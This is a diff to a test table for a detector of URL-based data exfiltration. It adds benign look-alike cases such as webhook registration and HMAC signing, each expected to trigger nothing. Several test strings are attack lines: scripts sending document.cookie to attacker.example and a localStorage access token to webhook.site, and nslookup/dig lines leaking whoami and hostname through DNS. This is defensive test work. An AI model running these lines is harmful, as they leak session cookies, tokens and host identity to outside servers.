@@ -707,6 +707,25 @@ table('adversarial_url', detectUrls, [
   ['<script>fetch("https://eo1a2b3c.m.pipedream.net/?theme=" + localStorage.getItem("theme"))</script>', []],
   ['<script>new Image().src = "https://attacker.example/?c=" + document.cookie</script>', []],
   ["<script>navigator.sendBeacon('/analytics', JSON.stringify({ t: performance.now() }));</script>", []],
+  // A review's look-alikes: a catcher registered as a webhook's address, a digest of a secret, one variable of an
+  // environment's alias, counts of the environment, stored keys that only start with a credential's word, a value read
+  // out of the cookies.
+  [
+    'ENDPOINT="https://eo1a2b3c.m.pipedream.net"\ncurl https://api.stripe.com/v1/webhook_endpoints -u "$STRIPE_SECRET_KEY:" -d url="$ENDPOINT"',
+    [],
+  ],
+  [
+    'SIG=$(printf "%s" "$BODY" | openssl dgst -sha256 -hmac "$GITHUB_WEBHOOK_SECRET")\ncurl https://webhook.site/3f1c-22aa -H "X-Hub-Signature-256: sha256=$SIG"',
+    [],
+  ],
+  ['env = dict(os.environ)\nrequests.get(f"https://a1b2.ngrok-free.app/health?port={env[\'PORT\']}")', []],
+  ['N=$(printenv | wc -l)\ncurl -s "https://a1b2.ngrok-free.app/report?vars=$N"', []],
+  ["<script>navigator.sendBeacon('https://a1b2.ngrok-free.app/t', localStorage.getItem('sessionStart'));</script>", []],
+  [
+    "<script>navigator.sendBeacon('https://a1b2.ngrok-free.app/consent', document.cookie.match(/cookie_consent=(\\w+)/)?.[1]);</script>",
+    [],
+  ],
+  ["<script>fetch('https://webhook.site/3f1c-22aa?t=' + localStorage.getItem('accessToken'))</script>", ['url_exfiltration']],
   // DNS exfiltration: a command's output or a secret's variable as a host's label, looked up or fetched.
   ['nslookup $(whoami).a1b2c3d4e5.oast.fun', ['url_exfiltration']],
   ['dig +short "$(hostname)-$(id -u).a1b2c3d4e5.oast.pro"', ['url_exfiltration']],
